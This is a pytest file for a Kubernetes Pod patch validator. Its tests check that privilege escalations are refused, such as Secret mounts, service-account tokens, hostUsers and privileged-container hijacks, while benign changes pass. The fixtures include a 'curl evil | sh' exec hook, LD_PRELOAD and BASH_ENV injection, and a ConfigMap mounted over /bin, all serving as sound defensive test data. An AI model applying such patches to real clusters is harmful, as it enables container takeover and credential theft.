"""The controls beyond Pod Security: Secrets, service-account credentials, the ServiceAccount,
nodeName, the user namespace (hostUsers), and what runs in a container the template grants a
privilege. Each escalation is refused naming its path, its control and the setting that allows
it, and passes once that setting does; benign look-alikes pass the default policy."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from modelserving.api import PatchPolicy, PatchRejected, PathRule
from modelserving.api.policy import BASELINE_CAPABILITIES, default_path_rules
from modelserving.chain import PatchValidator, access, takeover
from modelserving.chain.jsonpatch import apply_one
from tests.unit.chain.test_patch_policy import expected, op

Ops = list[dict[str, Any]]
OPEN = [PathRule(path="/**")]
ENGINE = "/spec/containers/0"
AGENT = "/spec/containers/1"
RESTRICTED = {
    "allowPrivilegeEscalation": False,
    "capabilities": {"drop": ["ALL"]},
    "runAsNonRoot": True,
    "seccompProfile": {"type": "RuntimeDefault"},
}


def template(*extra: dict[str, Any], **spec: Any) -> dict[str, Any]:
    """A restricted ``engine`` and ``extra`` containers; ``automountServiceAccountToken: false``
    and ``hostUsers: false`` unless ``spec`` says otherwise."""
    engine = {"name": "engine", "image": "vllm:1", "securityContext": dict(RESTRICTED)}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "p", "namespace": "ns", "labels": {"app": "x"}},
        "spec": {
            "automountServiceAccountToken": False,
            "hostUsers": False,
            "containers": [engine, *extra],
            **spec,
        },
    }


def agent(**security: Any) -> dict[str, Any]:
    """A container the template grants ``security`` (privileged unless given)."""
    return {
        "name": "agent",
        "image": "agent:1",
        "command": ["/bin/sh", "-c", "exec agent"],
        "volumeMounts": [{"name": "state", "mountPath": "/state"}],
        "securityContext": security or {"privileged": True},
    }


def refused(pod: dict[str, Any], ops: Ops, path: str, *says: str, **allowing: Any) -> None:
    """Refused at ``path`` by the default policy with the paths opened, the reason saying each of
    ``says``; accepted once the policy sets ``allowing``."""
    before = copy.deepcopy(pod)
    with pytest.raises(PatchRejected) as info:
        PatchValidator(PatchPolicy(allowed_paths=OPEN)).apply(pod, ops)
    assert pod == before
    assert info.value.path == path, info.value
    for text in says:
        assert text in info.value.reason, info.value.reason
    allowed = PatchValidator(PatchPolicy(allowed_paths=OPEN, **allowing))
    assert allowed.apply(pod, ops) == expected(pod, ops)


def passes(pod: dict[str, Any], ops: Ops, **policy: Any) -> None:
    assert PatchValidator(PatchPolicy(**policy)).apply(pod, ops) == expected(pod, ops)


MOUNT = {"name": "x", "mountPath": "/var/run/x"}
SIDE = {"name": "side", "image": "s:1", "volumeMounts": [MOUNT], "securityContext": RESTRICTED}


def volume(**source: Any) -> dict[str, Any]:
    return {"name": "x", **source}


def token(audience: str | None = None) -> dict[str, Any]:
    source: dict[str, Any] = {"path": "token"}
    if audience:
        source["audience"] = audience
    return {"serviceAccountToken": source}


# --- Secrets, credentials, ServiceAccount, nodeName, hostUsers --------------------------------

SECRET = ("weakens control 'Secrets'", "add admin-token to patchPolicy.allowedSecrets")
ALLOW_SECRET = {"allowed_secrets": ["admin-token"]}
CREDENTIAL = (
    "weakens control 'Service Account Credentials'",
    "patchPolicy.allowServiceAccountTokens is false",
)
ALLOW_CREDENTIAL = {"allow_service_account_tokens": True}

ESCALATIONS: dict[str, tuple[dict[str, Any], Ops, str, tuple[str, ...], dict[str, Any]]] = {
    "secret volume": (
        template(),
        [
            op("add", "/spec/volumes", [volume(secret={"secretName": "admin-token"})]),
            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
        ],
        "/spec/volumes/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "projected secret": (
        template(),
        [
            op(
                "add",
                "/spec/volumes",
                [volume(projected={"sources": [{"secret": {"name": "admin-token"}}]})],
            )
        ],
        "/spec/volumes/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "csi nodePublishSecretRef": (
        template(),
        [
            op(
                "add",
                "/spec/volumes",
                [volume(csi={"driver": "d", "nodePublishSecretRef": {"name": "admin-token"}})],
            )
        ],
        "/spec/volumes/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "env secretKeyRef": (
        template(),
        [
            op(
                "add",
                f"{ENGINE}/env",
                [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "admin-token", "key": "t"}}}],
            )
        ],
        f"{ENGINE}/env/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "envFrom secretRef": (
        template(),
        [op("add", f"{ENGINE}/envFrom", [{"secretRef": {"name": "admin-token"}}])],
        f"{ENGINE}/envFrom/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "imagePullSecrets": (
        template(),
        [op("add", "/spec/imagePullSecrets", [{"name": "admin-token"}])],
        "/spec/imagePullSecrets/0",
        SECRET,
        ALLOW_SECRET,
    ),
    "projected token despite automount false": (
        template(),
        [
            op("add", "/spec/volumes", [volume(projected={"sources": [token()]})]),
            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
        ],
        "/spec/volumes/0",
        ("projects a token of its ServiceAccount for the Kubernetes API", *CREDENTIAL),
        ALLOW_CREDENTIAL,
    ),
    "projected token for another audience": (
        template(automountServiceAccountToken=True),
        [op("add", "/spec/volumes", [volume(projected={"sources": [token("vault")]})])],
        "/spec/volumes/0",
        ("for audience 'vault'", *CREDENTIAL),
        ALLOW_CREDENTIAL,
    ),
    "projected pod certificate": (
        template(),
        [
            op(
                "add",
                "/spec/volumes",
                [volume(projected={"sources": [{"podCertificate": {"signerName": "x.io/s"}}]})],
            )
        ],
        "/spec/volumes/0",
        ("projects a certificate of its identity signed by 'x.io/s'", *CREDENTIAL),
        ALLOW_CREDENTIAL,
    ),
    "automount false removed": (
        template(),
        [op("remove", "/spec/automountServiceAccountToken")],
        "/spec/automountServiceAccountToken",
        ("unless the ServiceAccount opts out", *CREDENTIAL),
        ALLOW_CREDENTIAL,
    ),
    "automount false made true": (
        template(),
        [op("replace", "/spec/automountServiceAccountToken", True)],
        "/spec/automountServiceAccountToken",
        CREDENTIAL,
        ALLOW_CREDENTIAL,
    ),
    "automount unset made true (the ServiceAccount may opt out)": (
        template(automountServiceAccountToken=None),
        [op("add", "/spec/automountServiceAccountToken", True)],
        "/spec/automountServiceAccountToken",
        CREDENTIAL,
        ALLOW_CREDENTIAL,
    ),
    "serviceAccountName set": (
        template(),
        [op("add", "/spec/serviceAccountName", "admin")],
        "/spec/serviceAccountName",
        ("weakens control 'Service Account'", "add admin to patchPolicy.allowedServiceAccounts"),
        {"allowed_service_accounts": ["admin"]},
    ),
    "serviceAccountName changed": (
        template(serviceAccountName="engine"),
        [op("replace", "/spec/serviceAccountName", "default")],
        "/spec/serviceAccountName",
        ("runs as ServiceAccount 'default'",),
        {"allowed_service_accounts": ["default"]},
    ),
    "deprecated serviceAccount set": (
        template(),
        [op("add", "/spec/serviceAccount", "admin")],
        "/spec/serviceAccount",
        ("runs as ServiceAccount 'admin'",),
        {"allowed_service_accounts": ["admin"]},
    ),
    "nodeName set": (
        template(),
        [op("add", "/spec/nodeName", "control-plane-1")],
        "/spec/nodeName",
        ("weakens control 'Node Name'", "patchPolicy.allowNodeName is false"),
        {"allow_node_name": True},
    ),
    "hostUsers false removed": (
        template(),
        [op("remove", "/spec/hostUsers")],
        "/spec/hostUsers",
        (
            "shares the node's user namespace",
            "weakens Pod Security control 'Host Namespaces'",
            "patchPolicy.allowHostNamespaces is false",
        ),
        {"allow_host_namespaces": True},
    ),
    "hostUsers made true": (
        template(),
        [op("replace", "/spec/hostUsers", True)],
        "/spec/hostUsers",
        ("shares the node's user namespace",),
        {"allow_host_namespaces": True},
    ),
}


@pytest.mark.parametrize(
    ("pod", "ops", "path", "says", "allowing"), list(ESCALATIONS.values()), ids=list(ESCALATIONS)
)
def test_access_the_template_did_not_give_is_refused(
    pod: dict[str, Any], ops: Ops, path: str, says: tuple[str, ...], allowing: dict[str, Any]
) -> None:
    pod["spec"] = {k: v for k, v in pod["spec"].items() if v is not None}
    refused(pod, ops, path, *says, **allowing)


def test_a_secret_name_that_is_no_name_is_refused() -> None:
    ops = [op("add", "/spec/volumes", [volume(secret={"secretName": 7})])]
    with pytest.raises(PatchRejected) as info:
        PatchValidator(PatchPolicy(allowed_secrets=["x"])).apply(template(), ops)
    assert info.value.path == "/spec/volumes/0"
    assert "references Secret 7, which is not a Secret name" in info.value.reason


def test_the_red_team_patches_are_refused_by_the_default_policy() -> None:
    """The default allow-list lets these paths change; the controls refuse them."""
    pod = template()
    for ops in (
        [op("add", "/spec/volumes", [volume(secret={"secretName": "admin-token"})])],
        [op("add", "/spec/volumes", [volume(projected={"sources": [token()]})])],
        [op("add", f"{ENGINE}/env", [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "s"}}}])],
    ):
        with pytest.raises(PatchRejected):
            PatchValidator().apply(pod, ops)


BENIGN: dict[str, tuple[dict[str, Any], Ops]] = {
    "env var": (template(), [op("add", f"{ENGINE}/env", [{"name": "A", "value": "1"}])]),
    "env from a ConfigMap or the Pod": (
        template(),
        [
            op(
                "add",
                f"{ENGINE}/env",
                [
                    {"name": "A", "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}},
                    {"name": "B", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
                ],
            ),
            op("add", f"{ENGINE}/envFrom", [{"configMapRef": {"name": "c"}}]),
        ],
    ),
    "ConfigMap, emptyDir and downwardAPI volumes": (
        template(),
        [
            op(
                "add",
                "/spec/volumes",
                [
                    volume(configMap={"name": "p-0-files"}),
                    {"name": "shm", "emptyDir": {"medium": "Memory"}},
                    {"name": "info", "downwardAPI": {"items": []}},
                    {"name": "ca", "projected": {"sources": [{"configMap": {"name": "ca"}}]}},
                ],
            ),
            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
        ],
    ),
    "a Secret the template references, elsewhere": (
        template(volumes=[volume(secret={"secretName": "engine-tls"})]),
        [
            op(
                "add",
                f"{ENGINE}/env",
                [{"name": "K", "valueFrom": {"secretKeyRef": {"name": "engine-tls", "key": "k"}}}],
            ),
            op(
                "add",
                "/spec/containers/-",
                SIDE,
            ),
        ],
    ),
    "the template's token mounted in a sidecar": (
        template(volumes=[volume(projected={"sources": [token("vault")]})]),
        [
            op(
                "add",
                "/spec/containers/-",
                SIDE,
            )
        ],
    ),
}


@pytest.mark.parametrize(("pod", "ops"), list(BENIGN.values()), ids=list(BENIGN))
def test_look_alikes_pass_the_default_policy(pod: dict[str, Any], ops: Ops) -> None:
    """The default policy, with envFrom added to the paths (it has no rule for it)."""
    passes(pod, ops, allowed_paths=[*default_path_rules(), PathRule(path="/spec/*/*/envFrom")])


@pytest.mark.parametrize(
    ("spec", "ops"),
    [
        (
            {"automountServiceAccountToken": None},
            [op("add", "/spec/automountServiceAccountToken", False)],
        ),
        (
            {"automountServiceAccountToken": True},
            [op("replace", "/spec/automountServiceAccountToken", True)],
        ),
        ({"hostUsers": None}, [op("add", "/spec/hostUsers", False)]),
        ({}, [op("add", "/spec/serviceAccountName", "default")]),  # unset is 'default'
        ({"serviceAccountName": "a"}, [op("replace", "/spec/serviceAccountName", "a")]),
        ({"nodeName": "n1"}, [op("remove", "/spec/nodeName")]),
        ({"volumes": [volume(secret={"secretName": "s"})]}, [op("remove", "/spec/volumes/0")]),
    ],
    ids=[
        "automount turned off",
        "automount kept",
        "hostUsers false added",
        "default account",
        "same account",
        "nodeName removed",
        "Secret dropped",
    ],
)
def test_keeping_or_narrowing_access_passes(spec: dict[str, Any], ops: Ops) -> None:
    pod = template()
    pod["spec"].update(spec)
    pod["spec"] = {k: v for k, v in pod["spec"].items() if v is not None}
    passes(pod, ops, allowed_paths=OPEN)


def test_listed_secrets_and_accounts_only() -> None:
    pod = template()
    ops = [op("add", "/spec/volumes", [volume(secret={"secretName": "other"})])]
    with pytest.raises(PatchRejected, match=r"add other to patchPolicy\.allowedSecrets"):
        PatchValidator(PatchPolicy(allowed_secrets=["admin-token"])).apply(pod, ops)


@pytest.mark.parametrize("field", ["allowed_secrets", "allowed_service_accounts"])
def test_names_in_the_lists_must_be_object_names(field: str) -> None:
    with pytest.raises(ValidationError, match="is not an object name"):
        PatchPolicy.model_validate({field: ["Admin Token"]})


# --- what runs in a privileged container -------------------------------------------------------

TAKEOVER = ("patchPolicy.allowPrivilegedContainerChanges is false",)
STATE = {"name": "state", "emptyDir": {}}
PAYLOAD = {"name": "payload", "configMap": {"name": "p-0-payload", "defaultMode": 493}}
EXEC = {"exec": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}

HIJACKS: dict[str, tuple[Ops, str]] = {
    "image": ([op("replace", f"{AGENT}/image", "evil:1")], f"{AGENT}/image"),
    "command": ([op("replace", f"{AGENT}/command", ["/bin/sh"])], f"{AGENT}/command"),
    "command removed": ([op("remove", f"{AGENT}/command")], f"{AGENT}/command"),
    "args": ([op("add", f"{AGENT}/args", ["-c", "x"])], f"{AGENT}/args"),
    "workingDir": ([op("add", f"{AGENT}/workingDir", "/tmp")], f"{AGENT}/workingDir"),
    "env LD_PRELOAD": (
        [op("add", f"{AGENT}/env", [{"name": "LD_PRELOAD", "value": "/p/x.so"}])],
        f"{AGENT}/env",
    ),
    "envFrom": (
        [op("add", f"{AGENT}/envFrom", [{"configMapRef": {"name": "c"}}])],
        f"{AGENT}/envFrom",
    ),
    "ConfigMap over /bin": (
        [
            op("add", "/spec/volumes/-", PAYLOAD),
            op("add", f"{AGENT}/volumeMounts/-", {"name": "payload", "mountPath": "/bin"}),
        ],
        f"{AGENT}/volumeMounts",
    ),
    "volumeDevices": (
        [op("add", f"{AGENT}/volumeDevices", [{"name": "state", "devicePath": "/dev/x"}])],
        f"{AGENT}/volumeDevices",
    ),
    "the volume it mounts replaced": (
        [op("replace", "/spec/volumes/0", {**PAYLOAD, "name": "state"})],
        "/spec/volumes/0",
    ),
    "postStart hook": (
        [op("add", f"{AGENT}/lifecycle", {"postStart": EXEC})],
        f"{AGENT}/lifecycle",
    ),
    "exec probe": ([op("add", f"{AGENT}/livenessProbe", EXEC)], f"{AGENT}/livenessProbe"),
    "container removed and added back": (
        [
            op("remove", AGENT),
            op("add", "/spec/containers/-", {**agent(), "image": "evil:1"}),
        ],
        f"{AGENT}/image",
    ),
    "shareProcessNamespace": (
        [op("add", "/spec/shareProcessNamespace", True)],
        "/spec/shareProcessNamespace",
    ),
}


@pytest.mark.parametrize(("ops", "path"), list(HIJACKS.values()), ids=list(HIJACKS))
def test_what_a_privileged_container_runs_may_not_change(ops: Ops, path: str) -> None:
    pod = template(agent(), volumes=[STATE])
    refused(
        pod,
        ops,
        path,
        "container 'agent', which runs privileged in the template",
        "or let plugins add that privilege: patchPolicy.allowPrivileged)",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )


GRANTS: dict[str, tuple[dict[str, Any], str, str]] = {
    "capability": (
        {"capabilities": {"add": ["SYS_ADMIN"]}},
        "adds capability SYS_ADMIN",
        "allowedCapabilities",
    ),
    "runAsUser 0": ({"runAsUser": 0}, "runs as user 0", "allowRunAsRoot"),
    "runAsNonRoot false": ({"runAsNonRoot": False}, "sets runAsNonRoot: false", "allowRunAsRoot"),
    "privilege escalation": (
        {"allowPrivilegeEscalation": True},
        "sets allowPrivilegeEscalation: true",
        "allowPrivilegeEscalation",
    ),
    "unconfined": (
        {"seccompProfile": {"type": "Unconfined"}},
        "seccomp profile 'Unconfined'",
        "allowUnconfined",
    ),
}


@pytest.mark.parametrize(("security", "grant", "setting"), list(GRANTS.values()), ids=list(GRANTS))
def test_any_grant_a_plugin_could_not_add_protects_the_container(
    security: dict[str, Any], grant: str, setting: str
) -> None:
    pod = template(agent(**security), volumes=[STATE])
    ops = [op("add", f"{AGENT}/env", [{"name": "BASH_ENV", "value": "/p/x"}])]
    refused(
        pod,
        ops,
        f"{AGENT}/env",
        grant,
        f"patchPolicy.{setting})",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )


def test_host_path_mounts_and_host_ports_protect_the_container() -> None:
    pod = template(agent(), volumes=[STATE, {"name": "dev", "hostPath": {"path": "/dev"}}])
    pod["spec"]["containers"][1]["securityContext"] = dict(RESTRICTED)
    pod["spec"]["containers"][1]["volumeMounts"].append({"name": "dev", "mountPath": "/dev"})
    ops = [op("replace", f"{AGENT}/image", "evil:1")]
    refused(
        pod,
        ops,
        f"{AGENT}/image",
        "mounts hostPath volume 'dev' at '/dev'",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )
    del pod["spec"]["containers"][1]["volumeMounts"][1]
    pod["spec"]["containers"][1]["ports"] = [{"containerPort": 22, "hostPort": 22}]
    refused(
        pod,
        ops,
        f"{AGENT}/image",
        "opens host port 0.0.0.0:22/TCP",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )


def _read_only_host_mount(source: dict[str, Any] | None = None, **mount: Any) -> dict[str, Any]:
    """A template whose agent mounts the host's /usr/local/Ascend/driver (or ``source``)
    read-only, and nothing else beyond the restricted profile."""
    driver = source or {"path": "/usr/local/Ascend/driver", "type": "Directory"}
    pod = template(agent(), volumes=[STATE, {"name": "driver", "hostPath": driver}])
    pod["spec"]["containers"][1]["securityContext"] = dict(RESTRICTED)
    pod["spec"]["containers"][1]["volumeMounts"].append(
        {"name": "driver", "mountPath": "/usr/local/Ascend/driver", "readOnly": True, **mount}
    )
    return pod


def test_a_writable_or_propagating_host_mount_still_protects_the_container() -> None:
    ops = [op("add", f"{AGENT}/env", [{"name": "A", "value": "1"}])]
    for mount, says in (
        ({"readOnly": False}, "writable"),
        ({"mountPropagation": "HostToContainer"}, "with mounts propagated from the host"),
    ):
        refused(
            _read_only_host_mount(**mount),
            ops,
            f"{AGENT}/env",
            says,
            *TAKEOVER,
            allow_privileged_container_changes=True,
        )


@pytest.mark.parametrize(
    ("source", "mount"),
    [
        ({"path": "/run/containerd/containerd.sock", "type": "Socket"}, {}),
        ({"path": "/dev/nvidia0", "type": "CharDevice"}, {}),
        ({"path": "/var/run/docker.sock"}, {}),  # no type: whatever is there
        ({"path": "/var/run", "type": "Directory"}, {}),
        ({"path": "/", "type": "Directory"}, {}),  # above every live directory
        ({"path": "/var/lib/kubelet/pods", "type": "Directory"}, {}),
        # a safe directory, but the env a plugin could change picks the subdirectory
        ({"path": "/data/logs", "type": "Directory"}, {"subPathExpr": "$(POD_UID)"}),
    ],
    ids=["socket", "device", "untyped", "run-directory", "root", "kubelet", "subPathExpr"],
)
def test_a_read_only_mount_of_a_live_host_path_still_protects_the_container(
    source: dict[str, Any], mount: dict[str, Any]
) -> None:
    """A read-only mount stops writes to files, not connecting to a socket or writing to a
    device: such mounts keep what the container runs closed."""
    ops = [op("add", f"{AGENT}/env", [{"name": "POD_UID", "value": "other"}])]
    refused(
        _read_only_host_mount(source, **mount),
        ops,
        f"{AGENT}/env",
        "mounts hostPath volume 'driver'",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )


NOT_TAKEOVERS: dict[str, tuple[dict[str, Any], Ops, dict[str, Any]]] = {
    "env of the unprivileged container next to it": (
        template(agent(), volumes=[STATE]),
        [op("add", f"{ENGINE}/env", [{"name": "A", "value": "1"}])],
        {},
    ),
    "resources, ports and an httpGet probe of the privileged one": (
        template(agent(), volumes=[STATE]),
        [
            op("add", f"{AGENT}/resources", {"limits": {"nvidia.com/gpu": "1"}}),
            op("add", f"{AGENT}/ports", [{"containerPort": 9000}]),
            op("add", f"{AGENT}/readinessProbe", {"httpGet": {"port": 9000}}),
        ],
        {},
    ),
    "a volume it does not mount": (
        template(agent(), volumes=[STATE]),
        [op("add", "/spec/volumes/-", PAYLOAD)],
        {},
    ),
    "a grant the policy lets plugins add": (
        template(agent(), volumes=[STATE]),
        [op("add", f"{AGENT}/env", [{"name": "A", "value": "1"}])],
        {"allow_privileged": True},
    ),
    "IPC_LOCK where the policy lists it": (
        template(agent(capabilities={"add": ["IPC_LOCK"]}), volumes=[STATE]),
        [op("add", f"{AGENT}/volumeMounts/-", {"name": "state", "mountPath": "/dev/hugepages"})],
        {"allowed_capabilities": [*BASELINE_CAPABILITIES, "IPC_LOCK"]},
    ),
    "IPC_LOCK, which reaches nothing beyond the container": (
        template(agent(capabilities={"add": ["IPC_LOCK"]}), volumes=[STATE]),
        [op("add", f"{AGENT}/volumeMounts/-", {"name": "state", "mountPath": "/dev/hugepages"})],
        {},
    ),
    "a read-only hostPath mount (drivers, a model cache)": (
        _read_only_host_mount(),
        [op("add", f"{AGENT}/env", [{"name": "ASCEND_VISIBLE_DEVICES", "value": "0"}])],
        {},
    ),
    "a baseline capability": (
        template(agent(capabilities={"add": ["NET_BIND_SERVICE"]}), volumes=[STATE]),
        [op("add", f"{AGENT}/env", [{"name": "A", "value": "1"}])],
        {},
    ),
    "the Pod's own grant, which any sidecar gets": (
        template(
            agent(allowPrivilegeEscalation=False), volumes=[STATE], securityContext={"runAsUser": 0}
        ),
        [op("add", f"{AGENT}/env", [{"name": "A", "value": "1"}])],
        {"allowed_paths": OPEN, "allow_run_as_root": False},
    ),
    "privileges taken away with the change": (
        template(agent(), volumes=[STATE]),
        [
            op("replace", f"{AGENT}/securityContext", RESTRICTED),
            op("replace", f"{AGENT}/image", "other:1"),
        ],
        {"allowed_paths": OPEN},
    ),
}


@pytest.mark.parametrize(
    ("pod", "ops", "policy"), list(NOT_TAKEOVERS.values()), ids=list(NOT_TAKEOVERS)
)
def test_changes_that_take_over_nothing_pass(
    pod: dict[str, Any], ops: Ops, policy: dict[str, Any]
) -> None:
    passes(pod, ops, **policy)


# --- the operations each check skips -----------------------------------------------------------

SEGMENTS = st.sampled_from(
    [
        "metadata", "labels", "spec", "containers", "initContainers", "0", "1", "-", "name",
        "env", "envFrom", "image", "command", "args", "resources", "ports", "securityContext",
        "volumes", "volumeMounts", "volumeDevices", "lifecycle", "livenessProbe", "exec",
        "secret", "secretName", "projected", "sources", "serviceAccountToken", "audience",
        "valueFrom", "secretKeyRef", "secretRef", "imagePullSecrets", "nodeName", "hostUsers",
        "serviceAccountName", "serviceAccount", "automountServiceAccountToken", "nodeSelector",
        "shareProcessNamespace", "workingDir", "tolerations",
    ]
)  # fmt: skip
VALUES = st.sampled_from(
    [
        None, True, False, 0, "x", "admin", [], {}, ["x"], [{"name": "x"}],
        {"name": "s", "secret": {"secretName": "y"}},
        {"name": "agent", "image": "evil"},
        {"secretKeyRef": {"name": "y"}}, {"name": "y"}, {"secretName": "y"},
        [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "y"}}}],
        {"sources": [{"serviceAccountToken": {"audience": "a"}}]},
        {"command": ["x"]}, [{"name": "state", "mountPath": "/bin"}],
    ]
)  # fmt: skip
RICH_POD = template(
    {**agent(), "env": [{"name": "S", "valueFrom": {"secretKeyRef": {"name": "s"}}}]},
    volumes=[
        STATE,
        {"name": "t", "projected": {"sources": [token("a"), {"secret": {"name": "p"}}]}},
    ],
    imagePullSecrets=[{"name": "pull"}],
    serviceAccountName="engine",
    nodeName="n1",
)


@settings(max_examples=1500, deadline=None)
@given(
    name=st.sampled_from(["add", "remove", "replace"]),
    segments=st.lists(SEGMENTS, min_size=1, max_size=5),
    value=VALUES,
)
def test_operations_the_checks_skip_change_nothing_they_read(
    name: str, segments: list[str], value: Any
) -> None:
    """The validator skips the access check for operations ``access.may_change`` calls neutral,
    and the takeover check for those ``takeover.may_change`` does: for any operation, a change in
    what either reads implies it was not called neutral."""
    patch: dict[str, Any] = {"op": name, "path": "".join("/" + s for s in segments)}
    if name != "remove":
        patch["value"] = value
    try:
        after = apply_one(RICH_POD, patch)  # type: ignore[arg-type]
    except PatchRejected:
        return
    if not isinstance(after, dict):
        return
    if access.access_facts(after) != access.access_facts(RICH_POD):
        assert access.may_change(patch)  # type: ignore[arg-type]
    subjects = [s for s, *_ in takeover.containers(RICH_POD)]
    if next(takeover.changes(RICH_POD, after, subjects), None):
        assert takeover.may_change(patch)  # type: ignore[arg-type]


def test_a_container_added_to_a_pod_that_shares_its_processes_with_a_privileged_one() -> None:
    sidecar = {"name": "spy", "image": "spy:1", "securityContext": dict(RESTRICTED)}
    ops = [op("add", "/spec/containers/-", sidecar)]
    shared = template(agent(), volumes=[STATE], shareProcessNamespace=True)
    refused(
        shared,
        ops,
        "/spec/containers/2",
        "adds container 'spy', which shares the Pod's processes with container 'agent'",
        *TAKEOVER,
        allow_privileged_container_changes=True,
    )
    # not shared: the new container sees only its own processes
    PatchValidator(PatchPolicy(allowed_paths=OPEN)).apply(template(agent(), volumes=[STATE]), ops)
